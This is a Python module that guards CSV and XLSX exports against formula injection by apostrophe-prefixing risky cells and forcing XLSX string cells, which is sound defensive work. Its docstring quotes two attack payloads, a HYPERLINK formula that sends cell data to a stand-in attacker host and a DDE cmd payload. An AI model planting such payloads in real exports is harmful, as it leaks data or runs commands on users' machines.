"""Cells as every CSV and XLSX we write holds them: never a formula (CSV/formula injection).

A directory's names and addresses come from imported files, i.e. from anyone who can get a
row into a regulator's list. A spreadsheet program opening our export would run a cell such
as ``=HYPERLINK("http://evil.example/?x="&A1,"点击")`` or ``+cmd|' /C calc'!A0``. Following
OWASP's "CSV Injection" advice, a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return is written with a leading apostrophe, which spreadsheets show as text;
XLSX text is always written as a string cell, never a formula (numbers stay numbers: they
cannot carry one). Every writer goes through :func:`neutralise` (CSV) or :func:`xlsx_row`
(XLSX); the readers undo the apostrophe (:func:`restore`) so an export imports back
unchanged.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterable
from itertools import repeat
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

#: What makes a spreadsheet read a cell as a formula (OWASP).
FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutralise(value: object) -> object:
    """``value`` safe for a spreadsheet cell: text that would start a formula is prefixed
    with an apostrophe; anything else is returned as it is (``None`` as "")."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return QUOTE + value
    return value


def neutralise_row(row: Iterable[object]) -> list[object]:
    return [neutralise(v) for v in row]


def restore(value: object) -> object:
    """Undo :func:`neutralise` on a cell read back from a file we (or Excel) wrote."""
    if (isinstance(value, str) and value.startswith(QUOTE)
            and value[1:].startswith(FORMULA_TRIGGERS)):
        return value[1:]
    return value


def restore_row(cells: list[str]) -> list[object]:
    """:func:`restore` on a row of text cells (a CSV row), without a call per cell when no
    cell starts with an apostrophe (nearly every row: a million-row import ran 1.4 million
    calls of :func:`restore` for nothing)."""
    if any(map(str.startswith, cells, repeat(QUOTE))):
        return [restore(c) for c in cells]
    return cells  # type: ignore[return-value]


def _plain(value: object) -> object:
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float):
        return value
    if isinstance(value, dt.date | dt.datetime):
        return value.isoformat()
    return str(neutralise(value))


def xlsx_row(worksheet: WriteOnlyWorksheet, row: Iterable[object]) -> list[Any]:
    """Cells for ``worksheet.append``: numbers as numbers, everything else as a string
    cell (its type set explicitly, so openpyxl never takes ``=…`` for a formula)."""
    cells = []
    for value in row:
        plain = _plain(value)
        cell = WriteOnlyCell(worksheet, value=plain)
        if isinstance(plain, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells
